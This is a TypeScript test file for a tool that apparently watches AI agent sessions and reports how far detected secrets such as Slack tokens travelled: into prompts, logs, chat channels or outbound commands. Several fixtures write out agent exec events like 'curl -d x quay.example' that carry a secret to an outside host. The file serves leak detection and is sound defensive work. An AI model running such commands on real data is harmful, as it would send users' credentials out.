import { describe, expect, it } from "vitest";
import { ALL_LEAKS, type LeaksFilter, leaks, sightingsOf } from "../../src/queries/leaks.ts";
import { call, exec, finished, pending, resolved } from "../support/attempt-events.ts";
import { given, type Told } from "../support/given.ts";

type Secrets = NonNullable<Told["secrets"]>;

/** A secret that stood in an event: its number becomes its fingerprint. */
function secret(number: number, more: Partial<Secrets[number]> = {}): { readonly secrets: Secrets } {
  const fingerprint = String(number).padStart(32, "0");
  return { secrets: [{ rule: "slack-token", fingerprint, confidence: "high", count: 1, paths: ["/text"], ...more }] };
}

function received(text: string, more: Partial<Told> = {}): Told {
  return { type: "message-received", data: { role: "user", text }, ...more } as Told;
}

function answered(text: string, more: Partial<Told> = {}, model = "mock-1"): Told {
  return { type: "message-sent", data: { text, provider: "mock", model }, ...more } as Told;
}

async function found(events: readonly Told[], filter: Partial<LeaksFilter> = {}) {
  const { store } = await given(...events);
  return leaks(store, { ...ALL_LEAKS, ...filter });
}

describe("how far a secret came", () => {
  it.each([
    ["what a person wrote", received("x", secret(1)), "prompt", ["message"]],
    ["an answer", answered("x", secret(1)), "prompt", ["answer"]],
    ["the result of a command", finished("c1", 0, {}, secret(1)), "prompt", ["result of exec"]],
    ["a command that stays here", exec("c1", "cat x", {}, secret(1)), "prompt", ["arguments of exec"]],
    ["a command that does not", exec("c1", "curl x", {}, secret(1)), "outbound", ["exec curl (unknown)"]],
    ["a tool that stays here", call("c1", "write", {}, secret(1)), "prompt", ["arguments of write"]],
    ["a tool that does not", call("c1", "web_fetch", {}, secret(1)), "outbound", ["web_fetch (unknown)"]],
  ] as const)("is told by %s", async (_, event, reach, via) => {
    const [row] = await found([event]);

    expect(row).toMatchObject({ reach, proof: [{ reach, times: 1, via }] });
  });

  it("is a log where the gateway wrote it down", async () => {
    const line: Told = { type: "gateway-logged", data: { text: "x", level: "info" }, ...secret(1) } as Told;

    const [row] = await found([{ ...line, agent: null, session: null, file: "openclaw.log" }]);

    expect(row?.reach).toBe("log");
  });

  it.each([
    ["denied", resolved("a1", "denied")],
    ["expired", resolved("a1", "expired")],
    ["pending", undefined],
  ] as const)("is not outside when the command was %s", async (status, end) => {
    const [row] = await found([
      exec("c1", "curl -d x quay.example", {}, secret(1)),
      pending("c1", "a1"),
      ...(end ? [end] : []),
    ]);

    expect(row?.reach).toBe("attempted-outbound");
    expect(row?.proof[0]?.via).toEqual([`exec curl (${status})`]);
  });

  it("is outside when the answer went to a chat channel, and not when it was only thought", async () => {
    const channel = { type: "message-received", data: { role: "user", text: "Hello.", channel: "telegram" } } as Told;
    const index: Told = {
      type: "session-indexed",
      data: { sessionKey: "agent:harbor:main", sessionId: "night-watch", channel: "telegram" },
    } as Told;

    const rows = await found([
      index,
      channel,
      answered("x", secret(1)),
      answered("", secret(2, { paths: ["/thinking"] })),
    ]);

    expect(rows.map(({ reach, proof }) => [reach, proof[0]?.via])).toEqual([
      ["outbound", ["message to telegram"]],
      ["prompt", ["answer"]],
    ]);
  });

  it("names the events that prove it, worst first", async () => {
    const { store } = await given(
      finished("c0", 0, {}, secret(1)),
      exec("c1", "curl -d x quay.example", {}, secret(1)),
      finished("c1", 0),
    );

    const [row] = leaks(store, ALL_LEAKS);

    expect(row?.proof.map(({ reach }) => reach)).toEqual(["outbound", "prompt"]);
    expect(row?.proof[0]?.via).toEqual(["exec curl (succeeded)"]);
    for (const { events } of row?.proof ?? []) {
      expect(
        store.raw.prepare("SELECT 1 FROM events WHERE event_id = ?").get(Buffer.from(events[0] ?? "", "hex")),
      ).toBeDefined();
    }
  });

  it("names every model that the conversation went to from then on", async () => {
    const [row] = await found([
      answered("Before.", {}, "early-1"),
      answered("Now.", {}, "mock-1"),
      received("x", secret(1)),
      answered("Then.", {}, "late-1"),
    ]);

    expect(row?.models).toEqual([
      { provider: "mock", model: "mock-1" },
      { provider: "mock", model: "late-1" },
    ]);
  });
});

describe("a list of secrets", () => {
  const story = [
    received("x", { at: 1, ...secret(1, { confidence: "low", rule: "json-field" }) }),
    received("x", { at: 2, ...secret(2, { confidence: "medium" }) }),
    received("x", { at: 3, ...secret(3) }),
    received("x", { at: 4, session: "day-watch", ...secret(4) }),
    exec("c1", "curl x", {}, { at: 5, ...secret(5, { confidence: "medium" }) }),
    received("x", { at: 6, agent: "pilot", ...secret(3, { rule: "json-field", confidence: "medium", count: 2 }) }),
  ];
  const numbers = async (filter: Partial<LeaksFilter> = {}) =>
    (await found(story, filter)).map(({ fingerprint }) => Number(fingerprint));

  it("goes by reach, then by confidence, then by when it was seen last", async () => {
    expect(await numbers()).toEqual([5, 3, 4, 2, 1]);
  });

  it("has one row for a secret whatever rule found it, and the rule that knew it best", async () => {
    const row = (await found(story)).find(({ fingerprint }) => fingerprint.endsWith("3"));

    expect(row).toMatchObject({
      rule: "slack-token",
      rules: ["json-field", "slack-token"],
      confidence: "high",
      times: 3,
      agents: ["harbor", "pilot"],
      firstAt: "2026-11-21T20:00:03.000Z",
      lastAt: "2026-11-21T20:00:06.000Z",
      configured: "no",
    });
  });

  it.each([
    [{ agents: ["pilot"] }, [3]],
    [{ sessions: ["day-watch"] }, [4]],
    [{ rules: ["json-field"] }, [3, 1]],
    [{ reaches: ["outbound"] }, [5]],
    [{ since: Date.UTC(2026, 10, 21, 20, 0, 4) }, [5, 4, 3]],
    [{ until: Date.UTC(2026, 10, 21, 20, 0, 2) }, [1]],
  ])("can be narrowed with %j", async (filter, wanted) => {
    expect((await numbers(filter)).toSorted()).toEqual(wanted.toSorted());
  });

  it("shows every place of one secret in the order of time", async () => {
    const { store } = await given(...story);

    const places = sightingsOf(store, ALL_LEAKS, secret(3).secrets[0]?.fingerprint ?? "");

    expect(places.map(({ ts, agent, times, kind }) => [ts, agent, times, kind])).toEqual([
      ["2026-11-21T20:00:03.000Z", "harbor", 1, "message-received"],
      ["2026-11-21T20:00:06.000Z", "pilot", 2, "message-received"],
    ]);
  });
});
